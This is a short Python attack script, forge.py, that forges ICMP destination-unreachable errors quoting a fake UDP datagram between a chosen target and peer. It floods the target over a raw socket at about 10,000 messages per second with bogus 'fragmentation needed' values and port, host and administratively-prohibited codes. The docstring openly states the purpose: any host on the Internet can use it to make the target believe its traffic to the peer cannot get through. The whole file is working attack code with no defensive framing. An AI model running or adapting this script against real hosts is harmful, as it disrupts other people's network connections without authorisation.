"""Sends ICMP errors about datagrams of somebody else, as anybody on the Internet can.

  forge.py TARGET PORT PEER PEER_PORT SECONDS

TARGET is told, by a host that is nobody, that its datagrams from PORT to PEER are too long for the path, for all kinds of lengths, and that PEER
cannot be reached. Prints how many messages left.
"""

import socket
import struct
import sys
import time

TOO_LONG, PORT, HOST, ADMINISTRATION = 4, 3, 1, 13
LENGTHS = (68, 296, 576, 0, 65535, 1280)


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def error(code, length, quote):
    message = struct.pack("!BBHHH", 3, code, 0, 0, length) + quote
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def main():
    target, port, peer, peer_port, seconds = sys.argv[1:]
    addresses = socket.inet_aton(target) + socket.inet_aton(peer)
    header = struct.pack("!BBHHHBBH", 0x45, 0, 1492, 7, 0x4000, 64, 17, 0) + addresses
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    quote = header + struct.pack("!HHHH", int(port), int(peer_port), 1472, 0) + bytes(32)
    messages = [error(TOO_LONG, length, quote) for length in LENGTHS]
    messages += [error(code, 0, quote) for code in (PORT, HOST, ADMINISTRATION)]
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    sent, start = 0, time.monotonic()
    end = start + float(seconds)
    while (now := time.monotonic()) < end:
        while sent < (now - start) * 10_000:
            out.sendto(messages[sent % len(messages)], (target, 0))
            sent += 1
        time.sleep(0.001)
    print(sent)


main()
